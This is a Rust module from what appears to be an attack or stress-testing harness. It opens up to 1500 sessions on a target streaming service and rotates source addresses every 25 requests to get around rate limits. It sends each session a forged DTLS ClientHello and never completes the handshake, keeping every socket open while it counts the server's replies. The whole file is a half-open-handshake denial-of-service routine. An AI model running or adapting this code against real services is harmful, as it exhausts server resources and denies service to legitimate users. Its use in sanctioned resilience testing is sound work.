//! Sessions whose DTLS handshake ends after the ClientHello.

use std::time::Duration;

use tokio::time::sleep;

use super::context::Context;
use super::error::AttackError;
use super::forged_handshake::hello;
use super::http::HttpPeer;
use super::session::Session;

/// Number of sessions.
const SESSIONS: usize = 1500;

/// Sessions that are asked for on one connection, before the next address asks.
const PER_CONNECTION: usize = 25;

/// From one look at the sockets to the next.
const PAUSE: Duration = Duration::from_millis(50);

pub(super) async fn run(context: &Context) -> Result<(), AttackError> {
    let mut sockets = Vec::new();
    let mut asked = 0;
    for source in 0.. {
        if asked >= SESSIONS {
            break;
        }
        let mut http = HttpPeer::connect(context, source).await?;
        for _ in 0..PER_CONNECTION {
            asked += 1;
            match Session::ask(context, &mut http, &context.target().stream, false).await {
                Ok(session) => {
                    let socket = context.datagrams(session.server, source).await?;
                    for datagram in hello(context, &session)? {
                        context.spend(datagram.len()).await;
                        socket.send(&datagram).await?;
                    }
                    sockets.push(socket);
                }
                Err(AttackError::Status(429)) => context.add("told to wait (429)", 1.0),
                Err(AttackError::Status(_)) => context.add("refused", 1.0),
                Err(error) => return Err(error),
            }
            context.note("sessions granted", sockets.len() as f64);
        }
    }
    let mut buffer = vec![0; 1 << 16];
    while !context.remaining().is_zero() {
        let mut answered = 0;
        for socket in &sockets {
            while let Ok(len) = socket.try_recv(&mut buffer) {
                context.received(len);
                // A ServerHello, not the answer to the check.
                answered += usize::from(buffer.first() == Some(&22));
            }
        }
        context.add("datagrams of handshakes", answered as f64);
        sleep(PAUSE).await;
    }
    Ok(())
}
